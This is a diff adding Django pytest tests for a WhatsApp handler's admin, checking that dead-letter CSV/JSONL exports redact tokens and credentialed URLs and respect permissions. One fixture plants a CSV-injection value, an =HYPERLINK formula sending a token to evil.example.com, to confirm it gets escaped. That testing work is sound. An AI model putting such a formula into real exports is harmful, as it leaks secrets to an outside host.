@@ -6,8 +6,11 @@ real worker; these check each page and rule cheaply.
 
 from __future__ import annotations
 
+import csv
 import html
 import io
+import json
+import re
 import shlex
 import uuid
 from datetime import timedelta
@@ -15,6 +18,7 @@ from decimal import Decimal
 from urllib.parse import urlencode
 
 import pytest
+from django.apps import apps as django_apps
 from django.contrib import admin
 from django.contrib.admin.models import LogEntry
 from django.contrib.auth.models import Permission
@@ -616,3 +620,122 @@ def test_breakers_page_forces_and_logs_and_needs_change_permission(client, root,
     assert name in page and 'name="op"' not in page
     assert client.post("/admin/whatsapp/circuitbreaker/", {"name": name, "op": "open"}).status_code == 403
     assert breakers.breaker_for(name).snapshot()["state"] == breakers.CLOSED
+
+
+TOKEN = "EAAG-test-access-token-NEVER-EXPORTED-91b2"
+
+
+def export(client, kind: str, entries: list[DeadLetter]):
+    response = client.post(
+        "/admin/dlq/deadletter/",
+        {"action": f"export_{kind}", "index": "0", "_selected_action": [str(e.pk) for e in entries]},
+    )
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content).decode()
+    return response, body
+
+
+@pytest.fixture
+def exportable(business, saga_entry, settings) -> list[DeadLetter]:
+    """The saga's entry, a record that is not UTF-8, and one whose error and record hold a
+    secret (the access token, a URL with credentials) and a spreadsheet formula."""
+    settings.WHATSAPP_ACCESS_TOKEN = TOKEN
+    binary = ingest_dead_letter(b"\xff\xfe not text", offset=30)
+    leaky = ingest_dead_letter(
+        f'{{"note": "token {TOKEN}", "hook": "https://u:pw@crm.example.com/h/K3Y"}}'.encode(), 31
+    )
+    DeadLetter.objects.filter(pk=leaky.pk).update(
+        error_message=f'=HYPERLINK("https://evil.example.com/?t={TOKEN}") failed',
+        traceback=f"Traceback ...\nError: Bearer {TOKEN}",
+    )
+    return [saga_entry, binary, leaky]
+
+
+def test_export_with_the_requeue_permission_carries_the_records_and_no_secret(client, root, exportable):
+    saga_entry, binary, leaky = exportable
+    client.force_login(root)
+    response, body = export(client, "jsonl", exportable)
+    assert response["Content-Type"].startswith("application/x-ndjson")
+    assert response["Content-Disposition"].startswith('attachment; filename="dead-letters-')
+    lines = [json.loads(line) for line in body.splitlines()]
+    assert [row["id"] for row in lines] == [e.pk for e in exportable]  # oldest first
+    by_id = {row["id"]: row for row in lines}
+    saga = by_id[saga_entry.pk]
+    assert (saga["stage"], saga["reason"], saga["business_id"]) == ("NOTIFY_SALES", "non_retryable", BUSINESS_ID)
+    assert saga["payload"]["processing_id"] == "complaint-9" and saga["payload"]["intent"] == "COMPLAINT"
+    assert saga["created_at"] == saga_entry.created_at.isoformat()
+    assert (by_id[binary.pk]["raw_value_encoding"], by_id[binary.pk]["raw_value"]) == ("base64", "//4gbm90IHRleHQ=")
+    leaked_raw = by_id[leaky.pk]["raw_value"]
+    assert by_id[leaky.pk]["raw_value_encoding"] == "utf-8" and "token [redacted]" in leaked_raw
+    assert '"https://crm.example.com:443"' in leaked_raw, "a URL in the record is cut to its origin"
+    assert by_id[leaky.pk]["kafka_headers"] == [{"key": "content-type", "value": "application/json"}]
+    assert by_id[leaky.pk]["kafka_key"] == "lead-1"
+
+    response, text = export(client, "csv", exportable)
+    assert response["Content-Type"].startswith("text/csv")
+    table = list(csv.DictReader(io.StringIO(text)))
+    assert [int(row["id"]) for row in table] == [e.pk for e in exportable]
+    assert {"payload", "raw_value", "kafka_key", "kafka_headers"} <= set(table[0])
+    assert json.loads(table[0]["payload"])["processing_id"] == "complaint-9"
+    leaked = table[2]
+    assert leaked["error_message"].startswith("'="), "a formula is never left for a spreadsheet to run"
+    for output in (body, text):
+        assert TOKEN not in output and "u:pw" not in output and "K3Y" not in output and SECRET not in output
+
+
+def test_export_without_the_requeue_permission_leaves_the_records_out(client, agent, exportable):
+    client.force_login(agent)
+    listing = client.get("/admin/dlq/deadletter/").content.decode()
+    assert 'value="export_csv"' in listing and 'value="export_jsonl"' in listing
+    _, body = export(client, "jsonl", exportable)
+    lines = [json.loads(line) for line in body.splitlines()]
+    assert len(lines) == 3 and lines[0]["error_message"].startswith("PermanentActionError: sales webhook answered 422")
+    assert all(not {"payload", "raw_value", "kafka_key", "kafka_headers"} & set(row) for row in lines)
+    _, text = export(client, "csv", exportable)
+    table = list(csv.DictReader(io.StringIO(text)))
+    assert len(table) == 3 and "payload" not in table[0] and "raw_value" not in table[0]
+    assert table[0]["reason"] == "non_retryable"
+    for output in (body, text):
+        assert "crm.example.com" not in output, "the raw record is left out"
+        assert TOKEN not in output and "u:pw" not in output
+
+
+def test_dead_letter_list_columns_and_times_to_the_second(client, root, saga_entry):
+    client.force_login(root)
+    page = client.get("/admin/dlq/deadletter/").content.decode()
+    headers = re.findall(r'<th scope="col"\s+class="[^"]*column-(\w+)', page)
+    assert headers == [
+        "id",
+        "age",
+        "status",
+        "stage",
+        "reason",
+        "business",
+        "message",
+        "short_error",
+        "requeues",
+    ]
+    stamp = timezone.localtime(saga_entry.created_at).strftime("%Y-%m-%d %H:%M:%S")
+    assert f'title="{stamp}"' in page, "the age's tooltip gives the time to the second"
+    assert "NOTIFY_SALES" in page and "non_retryable" in page and BUSINESS_ID in page
+    entry_page = client.get(f"/admin/dlq/deadletter/{saga_entry.pk}/change/").content.decode()
+    assert stamp in entry_page
+    by_age = client.get("/admin/dlq/deadletter/?o=2")
+    assert by_age.status_code == 200 and "NOTIFY_SALES" in by_age.content.decode()
+
+
+def test_site_names_the_product_and_models_are_spelled_right(client, root):
+    client.force_login(root)
+    index = client.get("/admin/").content.decode()
+    assert "WhatsApp message handler" in index and "Django administration" not in index
+    assert "Duplicate deliveries" in index and "deliverys" not in index
+    for model in django_apps.get_models():
+        if model._meta.app_label not in {"leads", "dlq", "whatsapp"}:
+            continue
+        singular, plural = str(model._meta.verbose_name), str(model._meta.verbose_name_plural)
+        if re.search(r"[^aeiou]y$", singular):
+            assert plural == singular[:-1] + "ies", model._meta.label
+        elif re.search(r"(s|x|ch|sh)$", singular):
+            assert plural == singular + "es", model._meta.label
+        else:
+            assert plural == singular + "s", model._meta.label
